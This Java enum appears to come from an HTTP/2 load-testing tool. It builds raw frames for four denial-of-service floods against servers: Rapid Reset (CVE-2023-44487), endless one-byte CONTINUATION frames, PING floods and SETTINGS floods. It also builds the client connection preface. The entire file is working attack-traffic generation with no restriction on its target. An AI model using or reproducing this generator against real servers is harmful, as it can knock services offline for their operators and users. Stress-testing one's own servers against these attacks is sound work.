package io.tickgate.loadtest.attack;

import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.Locale;

/** An attack that is a repetition of a few HTTP/2 frames (RFC 9113 §10.5). */
public enum AttackKind {
    /** CVE-2023-44487: requests that are reset at once. */
    RAPID_RESET,
    /** A header block in pieces of one byte, without end. */
    CONTINUATION,
    /** Each is to be answered. */
    PING,
    /** Each is to be answered, and its initial window visits all streams. */
    SETTINGS;

    static final int RST_STREAM = 3;
    static final int GOAWAY = 7;

    /** More than any repetition takes. */
    static final int MAX_BYTES = 64;

    private static final int HEADERS = 1;
    private static final int SETTINGS_FRAME = 4;
    private static final int PING_FRAME = 6;
    private static final int CONTINUATION_FRAME = 9;
    private static final int END_STREAM = 1;
    private static final int END_HEADERS = 4;
    private static final byte[] CANCEL = {0, 0, 0, 8};
    /** GET / of authority "a" by HPACK's static table (RFC 7541). */
    private static final byte[] REQUEST = {(byte) 0x82, (byte) 0x86, (byte) 0x84, 0x41, 1, 'a'};

    /** Frames of one repetition. */
    int frames() {
        return this == RAPID_RESET ? 2 : 1;
    }

    /** Appends repetition {@code n} of a connection, from 0. */
    void append(ByteBuffer to, int n) {
        switch (this) {
            case RAPID_RESET -> {
                int stream = 1 + 2 * n;
                frame(to, HEADERS, END_STREAM | END_HEADERS, stream, REQUEST);
                frame(to, RST_STREAM, 0, stream, CANCEL);
            }
            case CONTINUATION -> frame(to, n == 0 ? HEADERS : CONTINUATION_FRAME, 0, 1, new byte[1]);
            case PING -> frame(to, PING_FRAME, 0, 0, new byte[8]);
            case SETTINGS -> frame(to, SETTINGS_FRAME, 0, 0, new byte[]{0, 4, 0, 0, 0, (byte) n});
        }
    }

    /** As on the command line. */
    @Override
    public String toString() {
        return name().toLowerCase(Locale.ROOT).replace('_', '-');
    }

    /** What a client begins with (RFC 9113 §3.4). */
    static byte[] preface() {
        ByteBuffer bytes = ByteBuffer.allocate(64);
        bytes.put("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII));
        frame(bytes, SETTINGS_FRAME, 0, 0, new byte[0]);
        byte[] preface = new byte[bytes.position()];
        bytes.get(0, preface);
        return preface;
    }

    static void frame(ByteBuffer to, int type, int flags, int stream, byte[] payload) {
        to.put((byte) 0).putShort((short) payload.length).put((byte) type).put((byte) flags).putInt(stream)
                .put(payload);
    }
}
